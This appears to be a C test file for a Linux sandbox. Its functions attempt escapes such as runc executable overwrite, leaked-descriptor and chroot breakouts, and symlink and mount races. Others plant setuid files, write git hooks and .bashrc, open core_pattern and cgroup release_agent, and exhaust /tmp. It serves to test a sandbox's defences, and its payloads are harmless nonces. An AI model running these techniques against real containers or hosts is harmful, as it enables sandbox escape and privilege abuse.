/* Filesystem, /proc and /sys: reach, change or leave what no grant names. */
#include "hostile.h"

#include <dirent.h>
#include <pthread.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>

/* ---- the runtime's own executable and descriptors ---- */

/*
 * CVE-2019-5736: a running executable cannot be written (ETXTBSY), so take an
 * O_PATH descriptor of it, end the process, and reopen it through /proc.
 */
static int overwrite_executable(pid_t pid)
{
	int program = open(PATH_OF("/proc/%d/exe", pid), O_PATH | O_CLOEXEC);
	if (program < 0)
		return refused("/proc/PID/exe");
	if (pid != 1 && pid != getppid())
		kill(pid, SIGKILL);
	for (int tries = 0; tries < 50; tries++) {
		int again = open(PATH_OF("/proc/self/fd/%d", program), O_WRONLY | O_CLOEXEC);
		if (again >= 0)
			return write(again, nonce(), strlen(nonce())) > 0 ? DONE : refused("write");
		if (errno != ETXTBSY)
			break;
		usleep(2000);
	}
	return refused("reopen");
}

int attack_exe_overwrite(void)
{
	return on_each_victim(overwrite_executable);
}

static int spill_below(int directory, const char *path)
{
	int fd = openat(directory, path, O_RDONLY | O_CLOEXEC);
	return fd >= 0 && spill(fd) ? DONE : refused(path);
}

/* CVE-2024-21626: a directory outside stays open in the guest. */
int attack_leaked_fd(void)
{
	const char *secret = need("secret") + 1;
	for (int fd = 3; fd < 256; fd++)
		if (spill_below(fd, secret) == DONE)
			return DONE;
	return REFUSED;
}

/* The same as a working directory: `--cwd /proc/self/fd/N`. */
int attack_leaked_cwd(void)
{
	return spill_below(AT_FDCWD, need("secret") + 1);
}

/* The launcher was started where the secret lies. */
int attack_inherited_cwd(void)
{
	return spill_below(AT_FDCWD, "secret");
}

/* ---- what the launcher makes or opens on the guest's behalf ---- */

/*
 * CVE-2021-30465: `sub` is exchanged for a symlink while the launcher makes a
 * mount point below it. Without a wall the guest plays the naive launcher.
 */
int attack_mount_race(void)
{
	for (int round = 0; round < 20000; round++) {
		mkdir(PATH_OF("%s/sub/target", need("scratch")), 0755);
		if (access(PATH_OF("%s/target", need("outside")), F_OK) == 0)
			return DONE;
		rmdir(PATH_OF("%s/sub/target", need("scratch")));
	}
	return refused("mkdir");
}

int attack_mount_symlink(void)
{
	return mkdir(PATH_OF("%s/link/target", need("scratch")), 0755) ? refused("mkdir") : DONE;
}

/* CVE-2025-31133: the /dev/null that a launcher masks with is a symlink. */
int attack_null_symlink(void)
{
	return spill_path(PATH_OF("%s/dev/null", need("scratch"))) == DONE ? DONE : spill_path("/dev/null");
}

/* CVE-2025-52565: the same with the console. */
int attack_console_symlink(void)
{
	const char *names[] = { "console", "tty", "ptmx" };
	for (int i = 0; i < 3; i++)
		if (spill_path(PATH_OF("%s/dev/%s", need("scratch"), names[i])) == DONE
		    || spill_path(PATH_OF("/dev/%s", names[i])) == DONE)
			return DONE;
	return REFUSED;
}

/* CVE-2026-41579, CVE-2026-47766: the `dev` below which mount points are made is a symlink. */
int attack_dev_symlink(void)
{
	return mkdir(PATH_OF("%s/root/dev/pts", need("scratch")), 0755) ? refused("mkdir") : DONE;
}

/* ---- out of a root directory ---- */

static int climb_and_spill(void)
{
	for (int level = 0; level < 64; level++)
		if (chdir(".."))
			return refused("chdir ..");
	return spill_below(AT_FDCWD, need("secret") + 1);
}

/* Enters a root of its own with a descriptor from before, then walks up from there. */
int attack_chroot_escape(void)
{
	int kept = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	mkdir("/tmp/jail", 0755);
	if (chroot("/tmp/jail"))
		return refused("chroot");
	if (fchdir(kept))
		return refused("fchdir");
	return climb_and_spill();
}

int attack_dotdot(void)
{
	return spill_path(PATH_OF("%s/../../../../../../../../../../../../..%s", need("readable"), need("secret")));
}

/* Paths from the root begin below what is mounted on top of it; ".." leads onto that. */
int attack_root_climb(void)
{
	int root = open("/", O_PATH | O_DIRECTORY | O_CLOEXEC);
	int above = openat(root, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);
	const char *starts[] = { "/..", "/../..", "/proc/1/root", "/proc/self/root/..", "/.root/..", "/dev/../.." };
	for (size_t i = 0; i < sizeof starts / sizeof *starts; i++)
		if (spill_path(PATH_OF("%s%s", starts[i], need("secret"))) == DONE)
			return DONE;
	if (spill_below(above, need("secret") + 1) == DONE)
		return DONE;
	if (chdir("/"))
		return refused("chdir");
	return climb_and_spill();
}

int attack_fchdir_leaked(void)
{
	for (int fd = 3; fd < 256; fd++)
		if (fchdir(fd) == 0 && climb_and_spill() == DONE)
			return DONE;
	return refused("fchdir");
}

/* ---- magic links of other processes ---- */

int attack_magic_root(void)
{
	return spill_each(PATH_OF("root%s", need("secret")));
}

int attack_magic_cwd(void)
{
	return spill_each("cwd/secret");
}

int attack_magic_fd(void)
{
	return spill_each(PATH_OF("fd/%ld", need_number("descriptor")));
}

int attack_magic_map_files(void)
{
	return spill_each(PATH_OF("map_files/%s", need("mapped")));
}

/* ---- what is left in a writable grant for the host to meet ---- */

static const char *planted(void)
{
	return PATH_OF("%s/planted", need("scratch"));
}

int attack_drop_setuid(void)
{
	enum { SYS_FCHMODAT2 = 452, MODE = 04755 };
	if (write_nonce(planted()) != DONE)
		return REFUSED;
	int fd = open(planted(), O_RDONLY | O_CLOEXEC);
	bool any = fchmod(fd, MODE) == 0;
	any |= chmod(planted(), MODE) == 0;
	any |= fchmodat(AT_FDCWD, planted(), MODE, 0) == 0;
	any |= syscall(SYS_FCHMODAT2, AT_FDCWD, planted(), MODE, AT_SYMLINK_NOFOLLOW) == 0;
	return any ? DONE : refused("chmod");
}

/* The mode of a new file: open, creat, openat, openat2, and mknod for good measure. */
int attack_drop_setuid_open(void)
{
	struct {
		uint64_t flags, mode, resolve;
	} how = { O_WRONLY | O_CREAT, 04755, 0 };
	umask(0);
	bool any = open(planted(), O_WRONLY | O_CREAT, 04755) >= 0 || creat(planted(), 04755) >= 0
		   || syscall(SYS_openat2, AT_FDCWD, planted(), &how, sizeof how) >= 0
		   || mknod(planted(), S_IFREG | 04755, 0) == 0;
	return any ? DONE : refused("open");
}

int attack_drop_device(void)
{
	if (mknod(planted(), S_IFCHR | 0666, makedev(1, 3)) == 0)
		return DONE;
	/* What overlayfs takes for a file that was deleted is a device too, without a number, and anybody may make it. */
	if (write_nonce(planted()) != DONE)
		return refused("open");
	return syscall(SYS_renameat2, AT_FDCWD, planted(), AT_FDCWD, PATH_OF("%s.moved", planted()), RENAME_WHITEOUT)
		       ? refused("renameat2")
		       : DONE;
}

static int bind_socket_at(const char *directory)
{
	struct sockaddr_un name = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	/* By a short relative name: sun_path holds 108 bytes. */
	if (chdir(directory))
		return refused(directory);
	strcpy(name.sun_path, "planted");
	return bind(fd, (void *)&name, sizeof name) ? refused("bind") : DONE;
}

int attack_drop_socket(void)
{
	const char *only = argument("into");
	return bind_socket_at(only ? only : need("scratch"));
}

int attack_drop_fifo(void)
{
	const char *only = argument("into");
	return mkfifo(PATH_OF("%s/planted", only ? only : need("scratch")), 0666) ? refused("mkfifo") : DONE;
}

/* A link leads now to a folder of the guest's own, now to the one outside. */
static const char *way(const char *end)
{
	static char paths[4][PATH_MAX];
	static int next;
	char *path = paths[next++ % 4];
	const char *folder = getenv("TMPDIR");
	snprintf(path, PATH_MAX, "%s/%s-%s", folder ? folder : "/tmp", nonce(), end);
	return path;
}

static void *flip_way(void *unused)
{
	const char *one = way("way"), *other = way("other");
	(void)unused;
	for (;;)
		syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE);
	return NULL;
}

static bool is_planted(mode_t kind)
{
	struct stat found;
	return lstat(PATH_OF("%s/planted", need("scratch")), &found) == 0 && (found.st_mode & S_IFMT) == kind;
}

static int plant_by_race(const char *call, mode_t kind, bool (*plant)(const char *))
{
	char own[PATH_MAX], planted_here[PATH_MAX], through[PATH_MAX];
	pthread_t flipping;
	snprintf(own, sizeof own, "%s", way("own"));
	snprintf(planted_here, sizeof planted_here, "%s/planted", own);
	snprintf(through, sizeof through, "%s/planted", way("way"));
	mkdir(own, 0700);
	if (symlink(own, way("way")) || symlink(need("scratch"), way("other")))
		return refused("symlink");
	if (pthread_create(&flipping, NULL, flip_way, NULL))
		unready("pthread_create");
	while (race_goes_on()) {
		plant(through);
		if (is_planted(kind))
			return DONE;
		unlink(planted_here);
	}
	errno = EACCES;
	return refused(call);
}

static bool plant_socket(const char *path)
{
	struct sockaddr_un name = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	snprintf(name.sun_path, sizeof name.sun_path, "%s", path);
	bool any = bind(fd, (void *)&name, sizeof name) == 0;
	close(fd);
	return any;
}

static bool plant_fifo(const char *path)
{
	return mkfifo(path, 0666) == 0;
}

int attack_drop_socket_race(void)
{
	return plant_by_race("bind", S_IFSOCK, plant_socket);
}

int attack_drop_fifo_race(void)
{
	return plant_by_race("mkfifo", S_IFIFO, plant_fifo);
}

/* ---- protected paths inside a writable grant ---- */

/* Another name for the same file, and a descriptor that names it without a path. */
static bool write_round(const char *path)
{
	const char *alias = PATH_OF("%s/alias", need("scratch"));
	if (link(path, alias) == 0 && write_nonce(alias) == DONE)
		return true;
	int fd = open(path, O_PATH | O_CLOEXEC);
	bool any = fd >= 0 && write_nonce(PATH_OF("/proc/self/fd/%d", fd)) == DONE;
	close(fd);
	return any;
}

static bool replace(const char *path)
{
	const char *fresh = planted();
	if (write_nonce(path) == DONE || write_round(path))
		return true;
	if (write_nonce(fresh) != DONE)
		return false;
	if (rename(fresh, path) == 0 || link(fresh, path) == 0 || symlink(fresh, path) == 0)
		return true;
	return unlink(path) == 0 && write_nonce(path) == DONE;
}

int attack_write_git_hook(void)
{
	return replace(PATH_OF("%s/.git/hooks/pre-commit", need("scratch"))) ? DONE : refused("replace");
}

/* The same where nothing but the folder is granted: palisade guards what git executes there unasked. */
static int replace_target(void)
{
	return replace(need("target")) ? DONE : refused("replace");
}

int attack_write_guarded_hook(void)
{
	return replace_target();
}

int attack_write_guarded_settings(void)
{
	return replace_target();
}

int attack_write_guarded_second_name(void)
{
	return replace_target();
}

int attack_write_guarded_worktree(void)
{
	return replace_target();
}

int attack_write_guarded_repository(void)
{
	return replace_target();
}

int attack_write_bashrc(void)
{
	return replace(PATH_OF("%s/.bashrc", need("scratch"))) ? DONE : refused("replace");
}

/* The protected directory moves away with its parent, and a new one takes its place. */
int attack_swap_git_directory(void)
{
	const char *git = PATH_OF("%s/.git", need("scratch"));
	if (rename(git, PATH_OF("%s/old", need("scratch"))))
		return refused("rename");
	mkdir(git, 0755);
	mkdir(PATH_OF("%s/hooks", git), 0755);
	return write_nonce(PATH_OF("%s/hooks/pre-commit", git));
}

int attack_swap_guarded_directory(void)
{
	return attack_swap_git_directory();
}

int attack_create_protected(void)
{
	return replace(PATH_OF("%s/.env", need("scratch"))) ? DONE : refused("create");
}

/* Neither the file nor its directory exist yet: make both, or move a prepared directory in. */
int attack_create_protected_deep(void)
{
	const char *directory = PATH_OF("%s/.vscode", need("scratch"));
	const char *prepared = PATH_OF("%s/prepared", need("scratch"));
	const char *file = PATH_OF("%s/tasks.json", directory);
	mkdir(directory, 0755);
	if (write_nonce(file) == DONE)
		return DONE;
	mkdir(prepared, 0755);
	write_nonce(PATH_OF("%s/tasks.json", prepared));
	rmdir(directory);
	if (rename(prepared, directory) == 0 || symlink(prepared, directory) == 0)
		return access(file, F_OK) ? refused("access") : DONE;
	return refused("rename");
}

/* What is protected is a symlink that leads out, or becomes one: its target must not come in. */
int attack_protect_symlink(void)
{
	return spill_path(need("target"));
}

int attack_protect_race(void)
{
	for (int round = 0; round < 2000; round++)
		if (spill_path(need("target")) == DONE)
			return DONE;
	return REFUSED;
}

/* ---- kernel settings ---- */

int attack_sysctl_core_pattern(void)
{
	return hold_path("/proc/sys/kernel/core_pattern", O_WRONLY);
}

int attack_sysctl_modprobe(void)
{
	return hold_path("/proc/sys/kernel/modprobe", O_WRONLY);
}

int attack_sysctl_hostname(void)
{
	return write_nonce("/proc/sys/kernel/hostname");
}

int attack_sysrq_trigger(void)
{
	return hold_path("/proc/sysrq-trigger", O_WRONLY);
}

int attack_uevent_helper(void)
{
	return hold_path("/sys/kernel/uevent_helper", O_WRONLY);
}

int attack_binfmt_misc(void)
{
	mount(nonce(), "/tmp", "binfmt_misc", 0, NULL);
	if (hold_path("/proc/sys/fs/binfmt_misc/register", O_WRONLY) == DONE)
		return DONE;
	return hold_path("/tmp/register", O_WRONLY);
}

int attack_sysfs_write(void)
{
	return hold_path("/sys/kernel/mm/transparent_hugepage/enabled", O_WRONLY);
}

/* ---- kernel information ---- */

int attack_read_kcore(void)
{
	return spill_path("/proc/kcore");
}

int attack_read_kallsyms(void)
{
	return spill_path("/proc/kallsyms");
}

int attack_read_keys(void)
{
	return spill_path("/proc/keys");
}

int attack_read_timer_list(void)
{
	return spill_path("/proc/timer_list");
}

int attack_read_sched_debug(void)
{
	return spill_path("/proc/sched_debug") == DONE ? DONE : spill_path("/sys/kernel/debug/sched/debug");
}

int attack_read_firmware(void)
{
	return spill_path("/sys/firmware/acpi/tables/DSDT");
}

int attack_environ_init(void)
{
	return spill_path("/proc/1/environ");
}

int attack_environ_victim(void)
{
	return spill_each("environ");
}

/* ---- control groups: opened, never written, since the real tree may be in sight ---- */

static int hold_in_any_cgroup(const char *file)
{
	const char *tops[] = { "",	   "memory/", "pids/",	"cpu/",	    "devices/",
			       "freezer/", "unified/", "systemd/", "cpu,cpuacct/" };
	int fd = -1;
	for (size_t i = 0; fd < 0 && i < sizeof tops / sizeof *tops; i++)
		fd = open(PATH_OF("/sys/fs/cgroup/%s%s", tops[i], file), O_WRONLY | O_CLOEXEC);
	return fd < 0 ? refused(file) : held();
}

int attack_cgroup_release_agent(void)
{
	return hold_in_any_cgroup("release_agent");
}

int attack_cgroup_devices_allow(void)
{
	return hold_in_any_cgroup("devices.allow");
}

int attack_cgroup_leave(void)
{
	return hold_in_any_cgroup("cgroup.procs");
}

int attack_cgroup_mount(void)
{
	return mount(nonce(), "/tmp", "cgroup2", 0, NULL) ? refused("mount") : held();
}

/* ---- devices and filesystems ---- */

/* The disk that this program lies on, or at least a loop device. */
int attack_mknod_disk(void)
{
	struct stat about;
	if (stat(own_path(), &about))
		unready(own_path());
	dev_t disks[] = { about.st_dev, makedev(7, 0) };
	for (int i = 0; i < 2; i++) {
		unlink("/tmp/disk");
		if (mknod("/tmp/disk", S_IFBLK | 0600, disks[i]))
			return refused("mknod");
		if (hold_path("/tmp/disk", O_RDONLY) == DONE)
			return DONE;
	}
	return REFUSED;
}

int attack_kernel_log_device(void)
{
	int log = open("/dev/kmsg", O_RDONLY | O_CLOEXEC | O_NONBLOCK);
	if (log < 0)
		return refused("/dev/kmsg");
	lseek(log, 0, SEEK_SET);
	/* One record per read; a record that was overwritten meanwhile reads as EPIPE. */
	while (spill(log) || errno == EPIPE)
		;
	return DONE;
}

int attack_devtmpfs_mount(void)
{
	return mount(nonce(), "/tmp", "devtmpfs", 0, NULL) ? refused("mount") : held();
}

int attack_overlay_userns(void)
{
	if (own_mounts())
		return refused("unshare");
	if (mount("layers", "/tmp", "tmpfs", 0, NULL))
		return refused("mount tmpfs");
	mkdir("/tmp/lower", 0700);
	mkdir("/tmp/upper", 0700);
	mkdir("/tmp/work", 0700);
	const char *options = "lowerdir=/tmp/lower,upperdir=/tmp/upper,workdir=/tmp/work";
	return mount(nonce(), "/tmp/lower", "overlay", 0, options) ? refused("mount overlay") : held();
}

/* ---- files that never end or never open ---- */

/* Without a wall the guest plays the naive launcher that opens what it was given. */
int attack_hang_on_fifo(void)
{
	const char *naive = argument("naive");
	return naive && open(naive, O_RDONLY | O_CLOEXEC) < 0 ? refused("open") : DONE;
}

int attack_hang_on_policy(void)
{
	return attack_hang_on_fifo();
}

/* ---- filling up ---- */

static int fill(const char *path)
{
	enum { CHUNKS = 32 };
	static char chunk[1 << 20];
	memset(chunk, 1, sizeof chunk);
	int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
	if (fd < 0)
		return refused(path);
	for (int i = 0; i < CHUNKS; i++)
		if (write(fd, chunk, sizeof chunk) != sizeof chunk)
			return refused("write");
	return held();
}

int attack_tmp_fill(void)
{
	return fill("/tmp/fill");
}

int attack_shm_fill(void)
{
	return fill("/dev/shm/fill");
}

int attack_tmp_inodes(void)
{
	enum { FILES = 60000 };
	if (mkdir("/tmp/many", 0700) || chdir("/tmp/many"))
		return refused("mkdir");
	for (int i = 0; i < FILES; i++) {
		char name[16];
		snprintf(name, sizeof name, "%d", i);
		if (mknod(name, S_IFREG | 0600, 0))
			return refused("mknod");
	}
	return held();
}

int attack_sparse_bomb(void)
{
	int fd = open(planted(), O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
	if (fd < 0)
		return refused("open");
	signal(SIGXFSZ, SIG_IGN);
	return ftruncate(fd, 1L << 36) ? refused("ftruncate") : DONE;
}

/* ---- how a policy spells its paths: `target` lies beside what was granted ---- */

int attack_path_prefix(void)
{
	return spill_path(need("target"));
}

int attack_path_glob(void)
{
	return spill_path(need("target"));
}

int attack_path_newline(void)
{
	return spill_path(need("target"));
}

int attack_path_case(void)
{
	return spill_path(need("target"));
}

int attack_granted_symlink(void)
{
	return spill_path(need("target"));
}

int attack_path_dotdot_grant(void)
{
	return spill_path(need("target"));
}

/* ---- what a policy hides in a folder that it grants ---- */

/* By its name, by other ways to its folder, by another name for it, and by taking away what hides it. */
static int find_hidden(const char *target)
{
	char folder[4096], moved[4096];
	const char *name = strrchr(target, '/') + 1;
	snprintf(folder, sizeof folder, "%.*s", (int)(name - target - 1), target);
	snprintf(moved, sizeof moved, "%s-moved", folder);
	const char *ways[] = { "%s", "/proc/self/root%s", "/..%s", "/proc/1/root%s" };
	for (int i = 0; i < 4; i++) {
		char path[8192];
		snprintf(path, sizeof path, ways[i], target);
		if (spill_path(path) == DONE)
			return DONE;
	}
	int inside = open(folder, O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (spill_below(inside, name) == DONE
	    || spill_below(inside, PATH_OF("../%s/%s", strrchr(folder, '/') + 1, name)) == DONE
	    || spill_path(PATH_OF("/proc/self/fd/%d/%s", inside, name)) == DONE)
		return DONE;
	if (chdir(folder) == 0 && spill_path(PATH_OF("/proc/self/cwd/%s", name)) == DONE)
		return DONE;
	const char *other = PATH_OF("%s/other-name", argument("scratch") ? argument("scratch") : "/tmp");
	if ((link(target, other) == 0 || symlink(target, other) == 0) && spill_path(other) == DONE)
		return DONE;
	umount2(target, MNT_DETACH);
	umount2(folder, MNT_DETACH);
	unlink(target);
	if (spill_path(target) == DONE)
		return DONE;
	if (rename(target, PATH_OF("%s-moved", target)) == 0 && spill_path(PATH_OF("%s-moved", target)) == DONE)
		return DONE;
	if (rename(folder, moved) == 0 && spill_path(PATH_OF("%s/%s", moved, name)) == DONE)
		return DONE;
	return refused("open");
}

int attack_hidden_file(void)
{
	return find_hidden(need("target"));
}

int attack_hidden_folder(void)
{
	return find_hidden(need("target"));
}

/* ---- a grant to read is not one to change ---- */

int attack_read_only_write(void)
{
	return write_nonce(need("granted"));
}

/* Gives the read-only file a second, writable name. */
int attack_read_only_link(void)
{
	const char *second = PATH_OF("%s/second", argument("scratch") ? argument("scratch") : "/tmp");
	if (link(need("granted"), second))
		return refused("link");
	return write_nonce(second);
}
